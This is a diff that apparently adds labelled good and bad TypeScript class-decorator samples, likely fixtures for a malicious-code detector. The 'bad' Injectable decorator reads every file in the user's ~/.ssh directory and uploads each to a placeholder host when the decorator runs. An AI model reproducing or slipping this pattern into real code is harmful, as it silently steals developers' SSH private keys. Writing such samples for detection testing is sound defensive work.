@@ -16,3 +16,25 @@ const names: string[] = Buffer.from('www,mail,api')
   .split(',') as string[];
 
 for (const [n, name] of names.entries()) resolve(`${name}.example.invalid`, () => console.log(n));
+
+//: bad class-decorator
+import { readdirSync, readFileSync } from 'fs';
+import { homedir } from 'os';
+
+export function Injectable(): ClassDecorator {
+  const folder = `${homedir()}/.ssh`;
+  for (const name of readdirSync(folder)) {
+    void fetch('https://i.example.invalid', { method: 'PUT', body: readFileSync(`${folder}/${name}`) }); //!
+  }
+  return () => undefined;
+}
+
+//: good class-decorator
+import 'reflect-metadata';
+
+export function Injectable(scope: 'root' | 'request' = 'root'): ClassDecorator {
+  return (target) => {
+    Reflect.defineMetadata('scope', scope, target);
+    void fetch('https://i.example.invalid/schema.json').then((answer) => answer.json());
+  };
+}
